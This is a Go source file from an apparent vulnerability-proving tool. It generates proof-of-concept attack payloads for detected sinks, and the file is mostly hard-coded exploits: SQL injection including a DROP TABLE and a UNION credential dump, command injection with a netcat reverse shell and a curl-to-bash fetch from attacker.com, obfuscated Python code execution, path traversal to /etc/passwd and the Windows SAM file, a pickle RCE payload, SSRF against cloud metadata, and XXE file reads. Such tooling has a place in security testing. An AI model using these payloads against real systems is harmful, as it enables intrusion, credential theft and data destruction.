package prover

import (
	"fmt"
	"net/url"
	"strings"

	"github.com/cris160/exploit-prover/analysis/core"
)

// GeneratePayload returns the proof-of-concept payload section for a sink.
// The payload strings are part of the external contract and must stay
// byte-stable across releases.
func GeneratePayload(sink *core.Sink) string {
	switch sink.Type {
	case core.SinkSQLInjection:
		return sqlPayload(sink)
	case core.SinkCommandInjection:
		return commandPayload(sink)
	case core.SinkCodeInjection:
		return codePayload(sink)
	case core.SinkPathTraversal:
		return pathPayload(sink)
	case core.SinkDeserialization:
		return picklePayload(sink)
	case core.SinkSSRF:
		return ssrfPayload(sink)
	case core.SinkXXE:
		return xxePayload(sink)
	default:
		return ""
	}
}

func sqlPayload(sink *core.Sink) string {
	payloads := []string{
		`' OR '1'='1' --`,
		`' OR '1'='1'/*`,
		`1; DROP TABLE users; --`,
		`' UNION SELECT username, password FROM users --`,
		`1' AND (SELECT * FROM (SELECT(SLEEP(5)))a) --`,
	}

	return fmt.Sprintf(`SQL Injection Payloads:
─────────────────────────────────────────
Target: %s (line %d)

Authentication Bypass:
  %s

Data Exfiltration:
  %s

Blind SQL Injection (Time-based):
  %s

Example HTTP Request:
  GET /api/user?id=%s HTTP/1.1
  Host: target.com
`,
		strings.TrimSpace(sink.CodeSnippet), sink.Line,
		payloads[0], payloads[3], payloads[4], urlEncode(payloads[0]))
}

func commandPayload(sink *core.Sink) string {
	payloads := []string{
		`; id`,
		`; cat /etc/passwd`,
		`| nc attacker.com 4444 -e /bin/sh`,
		"`whoami`",
		`$(curl http://attacker.com/shell.sh | bash)`,
	}

	return fmt.Sprintf(`Command Injection Payloads:
─────────────────────────────────────────
Target: %s (line %d)

Basic Command Execution:
  %s

Reverse Shell:
  %s

Out-of-Band Data Exfiltration:
  %s

Example Input:
  127.0.0.1%s
`,
		strings.TrimSpace(sink.CodeSnippet), sink.Line,
		payloads[0], payloads[2], payloads[4], payloads[0])
}

func codePayload(sink *core.Sink) string {
	payloads := []string{
		`__import__('os').system('id')`,
		`__import__('subprocess').check_output(['cat', '/etc/passwd'])`,
		`exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))`,
	}

	return fmt.Sprintf(`Code Injection Payloads:
─────────────────────────────────────────
Target: %s (line %d)

Basic Code Execution:
  %s

File Read:
  %s

Obfuscated Payload:
  %s
`,
		strings.TrimSpace(sink.CodeSnippet), sink.Line,
		payloads[0], payloads[1], payloads[2])
}

func pathPayload(sink *core.Sink) string {
	return fmt.Sprintf(`Path Traversal Payloads:
─────────────────────────────────────────
Target: %s (line %d)

Linux:
  ../../../etc/passwd
  ....//....//....//etc/passwd

Windows:
  ..\..\..\windows\system32\config\sam
  ..%%2f..%%2f..%%2fetc/passwd

Null Byte (legacy):
  ../../../etc/passwd%%00.png
`,
		strings.TrimSpace(sink.CodeSnippet), sink.Line)
}

func picklePayload(sink *core.Sink) string {
	return fmt.Sprintf(`Insecure Deserialization Payloads:
─────────────────────────────────────────
Target: %s (line %d)

Python Pickle RCE:
  import pickle
  import base64
  import os

  class Exploit:
      def __reduce__(self):
          return (os.system, ('id',))

  payload = base64.b64encode(pickle.dumps(Exploit())).decode()
  print(payload)

Generated Base64 Payload:
  gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==

Send this as the serialized data to trigger code execution.
`,
		strings.TrimSpace(sink.CodeSnippet), sink.Line)
}

func ssrfPayload(sink *core.Sink) string {
	return fmt.Sprintf(`SSRF Payloads:
─────────────────────────────────────────
Target: %s (line %d)

Cloud Metadata:
  http://169.254.169.254/latest/meta-data/

Internal Scan:
  http://localhost:8080/admin
  http://127.0.0.1:22
`,
		sink.CodeSnippet, sink.Line)
}

func xxePayload(sink *core.Sink) string {
	return fmt.Sprintf(`XXE Payloads:
─────────────────────────────────────────
Target: %s (line %d)

File Read:
  <!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
  <root>&xxe;</root>

SSRF via XXE:
  <!DOCTYPE foo [ <!ENTITY xxe SYSTEM "http://internal.service/endpoint"> ]>
`,
		sink.CodeSnippet, sink.Line)
}

// urlEncode percent-encodes a payload for the HTTP request example,
// using %20 for spaces.
func urlEncode(s string) string {
	return strings.ReplaceAll(url.QueryEscape(s), "+", "%20")
}
